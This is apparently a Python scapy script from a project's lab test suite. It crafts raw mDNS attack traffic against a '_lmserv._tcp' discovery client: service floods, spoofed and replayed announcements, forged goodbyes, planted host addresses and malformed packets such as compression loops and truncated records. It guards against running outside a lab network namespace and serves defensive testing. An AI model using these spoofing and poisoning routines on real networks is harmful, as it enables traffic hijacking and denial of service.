#!/usr/bin/python3
"""Raw mDNS attacks on a lab LAN (scapy), for the hostile-LAN lab suites.

Runs ONLY inside a lab host (tests/lab/lab exec HOST ...): it refuses to run in
the root network namespace, whose eth0 may be a shared network.

  attacks.py flood   PREFIX COUNT TTL SRC4 [SRC6]      unsolicited responses
        announcing COUNT services PREFIX-0000.. (PTR, SRV, TXT), five
        services a packet with their host's A (and AAAA) record, as fast as scapy sends;
        with SRC6 every packet goes over IPv6 too (as a dual-stack responder's)
  attacks.py chimera NAME HOST PORT INFO COUNT GAP SRC4 SRC6   COUNT responses,
        GAP seconds apart, claiming service NAME on HOST:PORT with TXT
        info=INFO and HOST's address SRC4/SRC6 (cache-flush set, as a real
        responder would)
  attacks.py replay  NAME HOST PORT COUNT GAP SRC4 SRC6 TXT...   like chimera,
        with the TXT strings given (e.g. a real peer's signed TXT, copied)
  attacks.py tamper  NAME HOST PORT COUNT GAP SRC4 SRC6 TXT...   like replay,
        without address records (HOST is a real host, whose own stay)
  attacks.py goodbye NAME COUNT SRC4 SRC6   COUNT goodbyes (PTR TTL 0) for NAME
  attacks.py expire NAME COUNT TTL SRC4 SRC6   COUNT PTR records for NAME with
        a short TTL (1 s, not 0: no goodbye, a record about to expire)
  attacks.py outside PREFIX COUNT GAP SRC4 SRC6   COUNT responses, GAP seconds
        apart, with records a one-shot scan for _lmserv._tcp.local must not
        believe: a PTR to PREFIX-evil._lmserv._tcp.example (SRV, TXT, its host's
        A there too), a PTR to PREFIX-a.PREFIX-b._lmserv._tcp.local (two labels
        deep), a PTR of _other._tcp.local, and PREFIX-ghost whose SRV target is
        PREFIX-ghost.example (with an A record)

  attacks.py offlink NAME HOST PORT HOPS TXTBYTES COUNT SRC4 SRC6   COUNT
        responses 0.05 s apart announcing NAME on HOST:PORT (PTR, SRV, TXT,
        no address record: as an announcement), sent with hop limit HOPS (255
        on the link; less: as if routed), its TXT TXTBYTES long (items of 200
        bytes, up to about 1,400: it goes in a datagram of its own)

  attacks.py plant HOST ADDR4 ADDR6 COUNT GAP SRC4 SRC6   COUNT responses,
        GAP seconds apart, claiming HOST is at ADDR4/ADDR6 (A and AAAA,
        cache-flush set): an address planted for a real peer's host
  attacks.py hostile PREFIX SRC4 SRC6   malformed responses, each once over
        IPv4 and IPv6: a compression loop (a name pointing at itself, two
        names pointing at each other), a record count of 65,535 over one
        record, a name over 255 bytes, a record running past the datagram's
        end, a TXT whose length byte runs past its record; then a whole
        service PREFIX-cap with a TXT of exactly 1,300 bytes and one
        PREFIX-long with a 63-byte instance label (both sound)

Prints one line "<mode> <count>" when done.
"""
import os
import sys
import time



def refuse_root_netns():
    """Exit unless this process is in a network namespace other than PID 1's."""
    root = None
    for pid in (1, 2):
        try:
            root = os.readlink("/proc/%d/ns/net" % pid)
            break
        except OSError:
            continue
    if root is None or os.readlink("/proc/self/ns/net") == root:
        sys.exit("attacks.py: refusing to run in the root network namespace (use tests/lab/lab exec)")


refuse_root_netns()

from scapy.all import DNS, DNSRR, DNSRRSRV, IP, UDP, Ether, IPv6, Raw, conf, get_if_hwaddr, sendp  # noqa: E402

conf.verb = 0
TYPE = "_lmserv._tcp.local."
IFACE = "eth0"
MAC = get_if_hwaddr(IFACE)
FLUSH = 0x8001  # class IN with the cache-flush bit (RFC 6762 10.2)


def frame4(src4, dns):
    return Ether(src=MAC, dst="01:00:5e:00:00:fb") / IP(src=src4, dst="224.0.0.251", ttl=255) / \
        UDP(sport=5353, dport=5353) / dns


def frame6(src6, dns):
    return Ether(src=MAC, dst="33:33:00:00:00:fb") / IPv6(src=src6, dst="ff02::fb", hlim=255) / \
        UDP(sport=5353, dport=5353) / dns


def chain(rrs):
    out = rrs[0]
    for rr in rrs[1:]:
        out = out / rr
    return out


def service(name, host, port, info, ttl, txt=None):
    full = name + "." + TYPE
    return [DNSRR(rrname=TYPE, type="PTR", ttl=ttl, rdata=full),
            DNSRRSRV(rrname=full, rclass=FLUSH, ttl=ttl, priority=0, weight=0, port=port, target=host),
            DNSRR(rrname=full, type="TXT", rclass=FLUSH, ttl=ttl,
                  rdata=txt if txt is not None else [b"info=" + info.encode()])]


def flood(prefix, count, ttl, src4, src6=None):
    frames, rrs = [], []
    for i in range(count):
        # five services a packet, on a host whose address is in that packet
        # (each packet stands alone: one lost in a burst loses only its own)
        host = "%s-h%03d.local." % (prefix, i // 5)
        if i % 5 == 0:
            rrs.append(DNSRR(rrname=host, type="A", rclass=FLUSH, ttl=ttl, rdata=src4))
            if src6:
                rrs.append(DNSRR(rrname=host, type="AAAA", rclass=FLUSH, ttl=ttl, rdata=src6))
        rrs += service("%s-%04d" % (prefix, i), host, 9000 + i % 1000, "flood", ttl)
        if i % 5 == 4 or i == count - 1:
            dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(rrs))
            frames.append(frame4(src4, dns))
            if src6:
                frames.append(frame6(src6, dns))
            rrs = []
    sendp(frames, iface=IFACE)
    print("flood", count, flush=True)


def chimera(name, host, port, info, count, gap, src4, src6, txt=None, mode="chimera"):
    rrs = service(name, host, port, info, 120, txt)
    if mode != "tamper":
        rrs += [DNSRR(rrname=host, type="A", rclass=FLUSH, ttl=120, rdata=src4),
                DNSRR(rrname=host, type="AAAA", rclass=FLUSH, ttl=120, rdata=src6)]
    dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(rrs))
    for i in range(count):
        sendp([frame4(src4, dns), frame6(src6, dns)], iface=IFACE)
        if i < count - 1:
            time.sleep(gap)
    print(mode, count, flush=True)


def offlink(name, host, port, hops, txtbytes, count, src4, src6):
    txt, left = [], txtbytes
    while left > 0:
        n = min(left - 1, 200) if left > 1 else 1
        txt.append(b"k%03d=" % len(txt) + b"x" * max(n - 5, 0))
        left -= len(txt[-1]) + 1
    rrs = service(name, host, port, "offlink", 120, txt or None)
    # the TXT in a datagram of its own: scapy does not compress names, and
    # a 1,320-byte TXT with the PTR and SRV does not fit a 1,500-byte MTU
    frames = []
    for part in (rrs[:2], rrs[2:]):
        dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(part))
        f4, f6 = frame4(src4, dns), frame6(src6, dns)
        f4[IP].ttl = hops
        f6[IPv6].hlim = hops
        frames += [f4, f6]
    for _ in range(count):
        sendp(frames, iface=IFACE)
        time.sleep(0.05)
    print("offlink", count, flush=True)


def goodbye(name, count, src4, src6):
    ptr = DNSRR(rrname=TYPE, type="PTR", ttl=0, rdata=name + "." + TYPE)
    dns = DNS(id=0, qr=1, aa=1, qd=None, an=ptr)
    for _ in range(count):
        sendp([frame4(src4, dns), frame6(src6, dns)], iface=IFACE)
        time.sleep(0.05)
    print("goodbye", count, flush=True)


def expire(name, count, ttl, src4, src6):
    ptr = DNSRR(rrname=TYPE, type="PTR", ttl=ttl, rdata=name + "." + TYPE)
    dns = DNS(id=0, qr=1, aa=1, qd=None, an=ptr)
    for _ in range(count):
        sendp([frame4(src4, dns), frame6(src6, dns)], iface=IFACE)
        time.sleep(0.05)
    print("expire", count, flush=True)


def outside(prefix, count, gap, src4, src6):
    ev = prefix + "-evil._lmserv._tcp.example."
    nested = "%s-a.%s-b.%s" % (prefix, prefix, TYPE)
    other = prefix + "-x._other._tcp.local."
    ghost = prefix + "-ghost." + TYPE
    ehost, ghost_host = prefix + "-evil.example.", prefix + "-ghost.example."
    rrs = [DNSRR(rrname=TYPE, type="PTR", ttl=120, rdata=ev),
           DNSRRSRV(rrname=ev, rclass=FLUSH, ttl=120, port=6666, target=ehost),
           DNSRR(rrname=ev, type="TXT", rclass=FLUSH, ttl=120, rdata=[b"info=evil"]),
           DNSRR(rrname=ehost, type="A", rclass=FLUSH, ttl=120, rdata="6.6.6.6"),
           DNSRR(rrname=TYPE, type="PTR", ttl=120, rdata=nested),
           DNSRRSRV(rrname=nested, rclass=FLUSH, ttl=120, port=6667, target="h1.local."),
           DNSRR(rrname=nested, type="TXT", rclass=FLUSH, ttl=120, rdata=[b"info=nested"]),
           DNSRR(rrname="_other._tcp.local.", type="PTR", ttl=120, rdata=other),
           DNSRRSRV(rrname=other, rclass=FLUSH, ttl=120, port=6668, target="h1.local."),
           DNSRR(rrname=other, type="TXT", rclass=FLUSH, ttl=120, rdata=[b"info=other"]),
           DNSRR(rrname=TYPE, type="PTR", ttl=120, rdata=ghost),
           DNSRRSRV(rrname=ghost, rclass=FLUSH, ttl=120, port=6669, target=ghost_host),
           DNSRR(rrname=ghost, type="TXT", rclass=FLUSH, ttl=120, rdata=[b"info=ghost"]),
           DNSRR(rrname=ghost_host, type="A", rclass=FLUSH, ttl=120, rdata="6.6.6.7")]
    dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(rrs))
    for i in range(count):
        sendp([frame4(src4, dns), frame6(src6, dns)], iface=IFACE)
        if i < count - 1:
            time.sleep(gap)
    print("outside", count, flush=True)


def plant(host, addr4, addr6, count, gap, src4, src6):
    rrs = [DNSRR(rrname=host, type="A", rclass=FLUSH, ttl=120, rdata=addr4),
           DNSRR(rrname=host, type="AAAA", rclass=FLUSH, ttl=120, rdata=addr6)]
    dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(rrs))
    for i in range(count):
        sendp([frame4(src4, dns), frame6(src6, dns)], iface=IFACE)
        if i < count - 1:
            time.sleep(gap)
    print("plant", count, flush=True)


def raw_frames(payload, src4, src6):
    u = UDP(sport=5353, dport=5353) / Raw(load=payload)
    return [Ether(src=MAC, dst="01:00:5e:00:00:fb") / IP(src=src4, dst="224.0.0.251", ttl=255) / u,
            Ether(src=MAC, dst="33:33:00:00:00:fb") / IPv6(src=src6, dst="ff02::fb", hlim=255) / u]


def hostile(prefix, src4, src6):
    import struct
    hdr = lambda an: struct.pack("!HHHHHH", 0, 0x8400, 0, an, 0, 0)
    ptr_fixed = struct.pack("!HHIH", 12, 1, 120, 2)  # PTR IN TTL 120, rdlength 2
    bad = [
        hdr(1) + b"\xc0\x0c" + ptr_fixed + b"\xc0\x0c",                      # points at itself
        hdr(2) + b"\xc0\x0e" + b"\xc0\x0c" + ptr_fixed + b"\xc0\x0c",        # at each other
        hdr(65535) + bytes(DNSRR(rrname=TYPE, type="PTR", ttl=120, rdata=prefix + "-many." + TYPE)),
        hdr(1) + b"".join(b"\x3f" + b"a" * 63 for _ in range(5)) + b"\x00" + ptr_fixed + b"\xc0\x0c",
        hdr(1) + bytes(DNSRR(rrname=TYPE, type="PTR", ttl=120, rdata=prefix + "-cut." + TYPE))[:-6],
        hdr(1) + bytes(DNSRR(rrname=prefix + "-txt." + TYPE, type="TXT", ttl=120, rdata=[b"a=b"]))[:-4]
        + b"\xff" + b"ab",
    ]
    frames = []
    for payload in bad:
        frames += raw_frames(payload, src4, src6)
    # sound, at the limits: a TXT of exactly 1,300 bytes (7 strings), a
    # 63-byte instance label; each service in a datagram of its own
    txt = [b"k%d=" % i + b"x" * (184 - len(b"k%d=" % i)) for i in range(6)]
    txt.append(b"z" * (1300 - sum(len(t) + 1 for t in txt) - 1))
    assert sum(len(t) + 1 for t in txt) == 1300
    for name, t in ((prefix + "-cap", txt), ((prefix + "-long" + "l" * 63)[:63], None)):
        rrs = service(name, prefix + "-h.local.", 7100, "limits", 120, t)
        for part in (rrs[:2], rrs[2:]):  # (scapy does not compress names)
            dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(part))
            frames += [frame4(src4, dns), frame6(src6, dns)]
    sendp(frames, iface=IFACE)
    print("hostile", len(bad), flush=True)


def main(argv):
    try:
        mode = argv[1]
        if mode == "flood":
            flood(argv[2], int(argv[3]), int(argv[4]), argv[5], argv[6] if len(argv) > 6 else None)
        elif mode == "chimera":
            chimera(argv[2], argv[3], int(argv[4]), argv[5], int(argv[6]), float(argv[7]), argv[8], argv[9])
        elif mode in ("replay", "tamper"):
            chimera(argv[2], argv[3], int(argv[4]), "", int(argv[5]), float(argv[6]), argv[7], argv[8],
                    [t.encode() for t in argv[9:]], mode)
        elif mode == "offlink":
            offlink(argv[2], argv[3], int(argv[4]), int(argv[5]), int(argv[6]), int(argv[7]), argv[8], argv[9])
        elif mode == "goodbye":
            goodbye(argv[2], int(argv[3]), argv[4], argv[5])
        elif mode == "outside":
            outside(argv[2], int(argv[3]), float(argv[4]), argv[5], argv[6])
        elif mode == "plant":
            plant(argv[2], argv[3], argv[4], int(argv[5]), float(argv[6]), argv[7], argv[8])
        elif mode == "hostile":
            hostile(argv[2], argv[3], argv[4])
        elif mode == "expire":
            expire(argv[2], int(argv[3]), int(argv[4]), argv[5], argv[6])
        else:
            raise IndexError
    except (IndexError, ValueError):
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
